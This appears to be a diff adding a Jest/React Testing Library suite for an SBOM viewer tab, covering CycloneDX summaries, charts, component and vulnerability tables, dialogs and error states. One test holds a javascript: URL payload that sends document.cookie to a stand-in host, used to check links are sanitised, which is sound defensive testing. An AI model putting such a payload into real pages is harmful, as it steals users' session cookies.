@@ -1,0 +1,294 @@
+import type { SbomPayload } from '@console/shared';
+import { screen, waitFor, within } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
+import type MockAdapter from 'axios-mock-adapter';
+import { mockHttp, renderRoute, REPORTS } from '../../testing/renderRoute';
+import { report } from '../../testing/reports';
+import { juiceShopWithOsvFindings, loadSbom, SBOM_FILES } from '../../testing/sbomFixtures';
+
+// The real chart needs a browser layout engine; the test reads what the tab hands it and counts draws.
+const mockChartDraws: string[] = [];
+jest.mock('../common/ApexChart', () => ({
+  preloadApexCharts: () => undefined,
+  ApexChart: ({ label, series, options }: { label: string; series: number[]; options: { labels: string[] } }) => {
+    mockChartDraws.push(label);
+    return <div data-testid="chart" aria-label={label} data-series={JSON.stringify(series)} data-labels={JSON.stringify(options.labels)} />;
+  },
+}));
+
+const R1 = `${REPORTS}r-1/`;
+const SBOM = `${R1}sbom`;
+
+function chart(title: string) {
+  const el = within(screen.getByRole('region', { name: title })).getByTestId('chart');
+  const labels: string[] = JSON.parse(el.getAttribute('data-labels')!);
+  const series: number[] = JSON.parse(el.getAttribute('data-series')!);
+  return Object.fromEntries(labels.map((label, i) => [label, series[i]]));
+}
+
+const rowsOf = (name: string) => within(screen.getByRole('table', { name })).getAllByRole('row').slice(1);
+const column = (name: string, index: number) => rowsOf(name).map((row) => within(row).getAllByRole('cell')[index]!.textContent);
+const summary = (label: string) => {
+  const card = screen.getByRole('region', { name: 'SBOM Summary' });
+  return within(card).getByText(label).nextElementSibling?.textContent;
+};
+
+describe('SBOM tab', () => {
+  let api: MockAdapter;
+  beforeEach(() => {
+    api = mockHttp();
+    api.onGet(R1).reply(200, report());
+    mockChartDraws.length = 0;
+    jest.spyOn(console, 'error').mockImplementation(() => undefined);
+  });
+  afterEach(() => {
+    api.restore();
+    jest.restoreAllMocks();
+  });
+
+  async function open(sbom: SbomPayload | [number, unknown]) {
+    const [status, body] = Array.isArray(sbom) ? sbom : [200, sbom];
+    api.onGet(SBOM).reply(status, body);
+    renderRoute('/insights/r-1?tab=sbom');
+    if (!Array.isArray(sbom)) await screen.findByRole('region', { name: 'SBOM Summary' });
+  }
+
+  it('summarises a CycloneDX 1.7 file and charts its severities and component types', async () => {
+    await open(loadSbom(SBOM_FILES.trivy));
+    expect(summary('Component')).toBe('testdata/fixtures/repo/npm');
+    expect(summary('Generated')).toBe(new Date('2021-08-25T12:20:30+00:00').toLocaleString());
+    expect(summary('CycloneDX')).toBe('1.7');
+    expect(screen.getByTestId('sbom-component-count')).toHaveTextContent('13');
+    expect(screen.getByTestId('sbom-vulnerability-count')).toHaveTextContent('1');
+    expect(chart('Vulnerability Severity')).toEqual({ Medium: 1 });
+    expect(chart('Component Types')).toEqual({ library: 12, application: 1 });
+  });
+
+  it.each([
+    ['a 1.4 file: metadata.component, not the tools array', SBOM_FILES.juiceShop, true, 'juice-shop 14.1.1'],
+    ['a 1.4 file without metadata.component: the first of tools[]', SBOM_FILES.juiceShop, false, 'cyclonedx-library 1.13.3'],
+    ['a 1.7 file: metadata.component, not tools.components', SBOM_FILES.trivy, true, 'testdata/fixtures/repo/npm'],
+    ['a 1.7 file without metadata.component: the first of tools.components', SBOM_FILES.trivy, false, 'trivy dev'],
+    ['a VEX-only file without metadata', SBOM_FILES.vexOnly, true, 'N/A'],
+  ])('names the root component of %s', async (_, file, keepRoot, expected) => {
+    const sbom = loadSbom(file);
+    await open(keepRoot ? sbom : { ...sbom, metadata: { ...sbom.metadata, component: null } });
+    expect(summary('Component')).toBe(expected);
+  });
+
+  describe('Components table', () => {
+    it('shows 10 rows by name, with N/A for a missing group or license, and pages 5/10/25', async () => {
+      const sbom = loadSbom(SBOM_FILES.juiceShop);
+      await open(sbom);
+      const names = sbom.components.map((c) => c.name).sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
+      expect(column('Components', 0)).toEqual(names.slice(0, 10));
+      expect(screen.getByText('1–10 of 1,115')).toBeInTheDocument();
+      const abbrev = rowsOf('Components')[0]!;
+      expect(within(abbrev).getAllByRole('cell').map((c) => c.textContent)).toEqual(['abbrev', 'library', '1.1.1', 'N/A', 'ISC']);
+
+      await userEvent.click(screen.getByRole('combobox', { name: /Rows per page/ }));
+      expect((await screen.findAllByRole('option')).map((o) => o.textContent)).toEqual(['5', '10', '25']);
+      await userEvent.click(screen.getByRole('option', { name: '25' }));
+      expect(rowsOf('Components')).toHaveLength(25);
+      await userEvent.click(screen.getByRole('button', { name: 'Go to next page' }));
+      expect(screen.getByText('26–50 of 1,115')).toBeInTheDocument();
+      expect(column('Components', 0)).toEqual(names.slice(25, 50));
+    });
+
+    it('sorts by Name, Type and Version, each click flipping the direction', async () => {
+      const sbom = loadSbom(SBOM_FILES.trivy);
+      await open(sbom);
+      expect(column('Components', 0)).toEqual(['asap', 'jquery', 'js-tokens', 'loose-envify', 'object-assign', 'package-lock.json', 'promise', 'prop-types', 'react', 'react-is']);
+      await userEvent.click(screen.getByRole('button', { name: 'Name' }));
+      expect(column('Components', 0)!.slice(0, 3)).toEqual(['symbol-observable', 'scheduler', 'redux']);
+      await userEvent.click(screen.getByRole('button', { name: 'Type' }));
+      expect(column('Components', 1)![0]).toBe('application');
+      await userEvent.click(screen.getByRole('button', { name: 'Version' }));
+      // Numbers compare by value (0.13.6 before 1.2.0, 15.7.2 before 16.8.6).
+      expect(column('Components', 2)).toEqual(['0.13.6', '1.2.0', '1.4.0', '2.0.6', '3.3.9', '4.0.0', '4.0.1', '4.1.1', '8.0.3', '15.7.2']);
+      const components = screen.getByRole('region', { name: 'Components' });
+      await userEvent.click(within(components).getByRole('button', { name: 'Go to next page' }));
+      expect(column('Components', 2)).toEqual(['16.8.6', '16.8.6', 'N/A']);
+      await userEvent.click(screen.getByRole('button', { name: 'Version' }));
+      expect(column('Components', 2)!.slice(0, 3)).toEqual(['16.8.6', '16.8.6', '15.7.2']);
+      // A missing version stays last in both directions.
+      await userEvent.click(within(components).getByRole('button', { name: 'Go to next page' }));
+      expect(column('Components', 2)!.at(-1)).toBe('N/A');
+    });
+
+    it('opens the component dialog on a row', async () => {
+      await open(loadSbom(SBOM_FILES.trivy));
+      await userEvent.click(screen.getByText('jquery'));
+      const dialog = await screen.findByRole('dialog', { name: 'jquery 3.3.9' });
+      expect(within(dialog).getByText('library')).toBeInTheDocument();
+      expect(within(dialog).getByText('pkg:npm/jquery@3.3.9')).toBeInTheDocument();
+      expect(within(dialog).getByText('MIT')).toBeInTheDocument();
+      const properties = within(dialog).getByRole('table', { name: 'Properties' });
+      expect(within(properties).getByText('aquasecurity:trivy:PkgID')).toBeInTheDocument();
+      expect(within(properties).getByText('jquery@3.3.9')).toBeInTheDocument();
+      await userEvent.click(within(dialog).getByRole('button', { name: 'Close' }));
+      await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
+    });
+  });
+
+  describe('Vulnerabilities table', () => {
+    it('is not shown without vulnerabilities, and the pie says so', async () => {
+      await open(loadSbom(SBOM_FILES.juiceShop));
+      expect(screen.queryByRole('table', { name: 'Vulnerabilities' })).not.toBeInTheDocument();
+      expect(within(screen.getByRole('region', { name: 'Vulnerability Severity' })).getByText('No vulnerabilities found')).toBeInTheDocument();
+    });
+
+    it('lists the highest severity first by default, 10 a page, sortable by ID and Severity', async () => {
+      await open(juiceShopWithOsvFindings());
+      expect(screen.getByTestId('sbom-vulnerability-count')).toHaveTextContent('85');
+      expect(chart('Vulnerability Severity')).toEqual({ Critical: 7, High: 40, Medium: 23, Low: 6, Unknown: 9 });
+      const table = screen.getByRole('table', { name: 'Vulnerabilities' });
+      expect(within(table).getAllByRole('columnheader').map((c) => c.textContent)).toEqual(['Vulnerability ID', 'Severity', 'Source', 'Affected Components']);
+      expect(rowsOf('Vulnerabilities')).toHaveLength(10);
+      expect(screen.getByText('1–10 of 85')).toBeInTheDocument();
+      expect(column('Vulnerabilities', 1)).toEqual([...Array(7).fill('Critical'), 'High', 'High', 'High']);
+      expect(column('Vulnerabilities', 0)![0]).toBe('GHSA-8g7p-74h8-hg48');
+      expect(column('Vulnerabilities', 2)![0]).toBe('OSV');
+
+      await userEvent.click(within(table).getByRole('button', { name: 'Severity' }));
+      expect(column('Vulnerabilities', 1)).toEqual(Array(9).fill('Unknown').concat('Low'));
+      expect(column('Vulnerabilities', 0)![0]).toMatch(/^MAL-/);
+
+      await userEvent.click(within(table).getByRole('button', { name: 'Vulnerability ID' }));
+      const ids = column('Vulnerabilities', 0);
+      expect(ids.every((id) => id!.startsWith('GHSA-'))).toBe(true);
+      await userEvent.click(within(table).getByRole('button', { name: 'Vulnerability ID' }));
+      expect(column('Vulnerabilities', 0)![0]).toMatch(/^MAL-2025-/);
+    });
+
+    it('names affected components, "+N more" past three', async () => {
+      await open(juiceShopWithOsvFindings());
+      await userEvent.click(within(screen.getByRole('table', { name: 'Vulnerabilities' })).getByRole('button', { name: 'Vulnerability ID' }));
+      const cells = column('Vulnerabilities', 3);
+      expect(cells.some((text) => /^[^,]+@[\d.]+$/.test(text!))).toBe(true);
+      expect(cells.some((text) => /\+\d+ more$/.test(text!))).toBe(true);
+    });
+
+    it('opens the vulnerability dialog with ratings, advisories (safe links) and dates', async () => {
+      const sbom = loadSbom(SBOM_FILES.trivy);
+      await open(sbom);
+      await userEvent.click(screen.getByText('CVE-2019-11358'));
+      const dialog = await screen.findByRole('dialog', { name: 'CVE-2019-11358' });
+      expect(within(dialog).getAllByText('Medium').length).toBeGreaterThan(0);
+      const source = within(dialog).getByRole('link', { name: 'ghsa' });
+      expect(source).toHaveAttribute('href', 'https://github.com/advisories?query=type%3Areviewed+ecosystem%3Anpm');
+      expect(within(dialog).getByText(/jQuery before 3.4.0/)).toBeInTheDocument();
+      expect(within(dialog).getByText('Upgrade jquery to version 3.4.0')).toBeInTheDocument();
+      expect(within(dialog).getByText('jquery@3.3.9')).toBeInTheDocument();
+      expect(within(dialog).getByText(new Date('2019-04-20T00:29:00+00:00').toLocaleString())).toBeInTheDocument();
+      expect(within(dialog).getByText(new Date('2021-10-20T11:15:00+00:00').toLocaleString())).toBeInTheDocument();
+
+      const ratings = within(dialog).getByRole('table', { name: 'Ratings' });
+      expect(within(ratings).getAllByRole('row')).toHaveLength(1 + sbom.vulnerabilities[0]!.ratings.length);
+      const nvd31 = within(ratings).getByText('CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N').closest('tr')!;
+      expect(within(nvd31).getAllByRole('cell').map((c) => c.textContent)).toEqual(['nvd', 'Medium', 'CVSSv31', '6.1', 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N']);
+
+      const advisory = within(dialog).getByRole('link', { name: 'https://avd.aquasec.com/nvd/cve-2019-11358' });
+      expect(advisory).toHaveAttribute('target', '_blank');
+      expect(advisory).toHaveAttribute('rel', 'noopener noreferrer');
+      expect(within(dialog).getAllByRole('link')).toHaveLength(1 + sbom.vulnerabilities[0]!.advisories.length);
+    });
+
+    it('never turns a javascript: URL from the SBOM into a link', async () => {
+      const sbom = loadSbom(SBOM_FILES.trivy);
+      const evil = 'javascript:fetch("https://evil.example/?c="+document.cookie)';
+      const vulnerability = { ...sbom.vulnerabilities[0]!, source: { name: 'ghsa', url: evil }, advisories: [{ title: 'Read me', url: evil }] };
+      const jquery = sbom.components.find((c) => c.name === 'jquery')!;
+      const components = sbom.components.map((c) => (c === jquery ? { ...c, licenses: [{ license: { id: 'MIT', url: evil } }] } : c));
+      await open({ ...sbom, components, vulnerabilities: [vulnerability] });
+
+      await userEvent.click(screen.getByText('CVE-2019-11358'));
+      const dialog = await screen.findByRole('dialog', { name: 'CVE-2019-11358' });
+      expect(within(dialog).getByText('Read me').closest('a')).toBeNull();
+      const source = within(dialog).getAllByText('Source').find((el) => el.tagName === 'DT')!;
+      expect(source.nextElementSibling).toHaveTextContent('ghsa');
+      expect(source.nextElementSibling!.querySelector('a')).toBeNull();
+      expect(within(dialog).queryAllByRole('link')).toHaveLength(0);
+      expect(document.querySelector('a[href^="javascript"]')).toBeNull();
+      await userEvent.click(within(dialog).getByRole('button', { name: 'Close' }));
+      await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
+
+      await userEvent.click(screen.getByText('jquery'));
+      const component = await screen.findByRole('dialog', { name: 'jquery 3.3.9' });
+      expect(within(component).getByText('MIT').closest('a')).toBeNull();
+      expect(document.querySelector('a[href^="javascript"]')).toBeNull();
+    });
+
+    it('shows affected components of a VEX-only BOM by their ref', async () => {
+      await open(loadSbom(SBOM_FILES.vexOnly));
+      const ref = 'urn:cdx:3e671687-395b-41f5-a30f-a58921a69b79/1#pkg:maven/com.fasterxml.jackson.core/jackson-databind@2.10.0?type=jar';
+      expect(column('Vulnerabilities', 3)).toEqual([ref]);
+      expect(column('Vulnerabilities', 1)).toEqual(['High']);
+      await userEvent.click(screen.getByText('CVE-2020-25649'));
+      const dialog = await screen.findByRole('dialog', { name: 'CVE-2020-25649' });
+      expect(within(dialog).getByText(ref)).toBeInTheDocument();
+      expect(within(dialog).getByText('(not listed in this SBOM)')).toBeInTheDocument();
+      expect(within(dialog).getByText(/XXE Injection is a type of attack/)).toBeInTheDocument();
+    });
+  });
+
+  it('says "No components found" for a file without components', async () => {
+    await open(loadSbom(SBOM_FILES.vexOnly));
+    expect(within(screen.getByRole('region', { name: 'Component Types' })).getByText('No components found')).toBeInTheDocument();
+    expect(rowsOf('Components')[0]).toHaveTextContent('No components found');
+    expect(chart('Vulnerability Severity')).toEqual({ High: 1 });
+  });
+
+  it('narrows the tables and the severity pie to the chosen component type', async () => {
+    await open(loadSbom(SBOM_FILES.trivy));
+    expect(screen.getByRole('combobox', { name: 'Filter by Component Type' })).toHaveTextContent('All Types');
+    await userEvent.click(screen.getByRole('combobox', { name: 'Filter by Component Type' }));
+    expect((await screen.findAllByRole('option')).map((o) => o.textContent)).toEqual(['All Types', 'library (12)', 'application (1)']);
+    await userEvent.click(screen.getByRole('option', { name: 'application (1)' }));
+    expect(column('Components', 0)).toEqual(['package-lock.json']);
+    expect(rowsOf('Vulnerabilities')[0]).toHaveTextContent('No vulnerabilities affect components of this type.');
+    expect(within(screen.getByRole('region', { name: 'Vulnerability Severity' })).getByText('No vulnerabilities found')).toBeInTheDocument();
+    expect(chart('Component Types')).toEqual({ library: 12, application: 1 });
+    await userEvent.click(screen.getByRole('combobox', { name: 'Filter by Component Type' }));
+    await userEvent.click(await screen.findByRole('option', { name: 'library (12)' }));
+    expect(rowsOf('Components')).toHaveLength(10);
+    expect(column('Vulnerabilities', 0)).toEqual(['CVE-2019-11358']);
+  });
+
+  it('says "No SBOM data available." when none was uploaded (404)', async () => {
+    await open([404, { detail: 'No SBOM data available.' }]);
+    expect(await screen.findByText('No SBOM data available.')).toBeInTheDocument();
+    expect(screen.queryByText('Failed to load SBOM data')).not.toBeInTheDocument();
+  });
+
+  it('says "Failed to load SBOM data" on any other failure', async () => {
+    await open([500, { detail: 'boom' }]);
+    expect(await screen.findByText('Failed to load SBOM data')).toBeInTheDocument();
+    expect(screen.queryByText('No SBOM data available.')).not.toBeInTheDocument();
+  });
+
+  it('renders one page of a 10,000-component, 3,000-vulnerability SBOM and never redraws the charts for the tables', async () => {
+    const base = juiceShopWithOsvFindings();
+    const components = Array.from({ length: 10_000 }, (_, i) => {
+      const c = base.components[i % base.components.length]!;
+      return { ...c, 'bom-ref': `${c['bom-ref']}#${i}`, version: `${c.version}-${Math.floor(i / base.components.length)}` };
+    });
+    const vulnerabilities = Array.from({ length: 3_000 }, (_, i) => {
+      const v = base.vulnerabilities[i % base.vulnerabilities.length]!;
+      return { ...v, id: `${v.id}-${i}`, affects: [{ ref: components[i]!['bom-ref']! }] };
+    });
+    await open({ ...base, components, vulnerabilities });
+    expect(screen.getByTestId('sbom-component-count')).toHaveTextContent('10,000');
+    expect(screen.getByTestId('sbom-vulnerability-count')).toHaveTextContent('3,000');
+    expect(rowsOf('Components')).toHaveLength(10);
+    expect(rowsOf('Vulnerabilities')).toHaveLength(10);
+
+    const draws = mockChartDraws.length;
+    await userEvent.click(within(screen.getByRole('table', { name: 'Components' })).getByRole('button', { name: 'Version' }));
+    await userEvent.click(within(screen.getByRole('table', { name: 'Vulnerabilities' })).getByRole('button', { name: 'Vulnerability ID' }));
+    await userEvent.click(screen.getAllByRole('button', { name: 'Go to next page' })[0]!);
+    await userEvent.click(rowsOf('Components')[0]!);
+    expect(await screen.findByRole('dialog')).toBeInTheDocument();
+    expect(mockChartDraws.length).toBe(draws);
+  });
+});
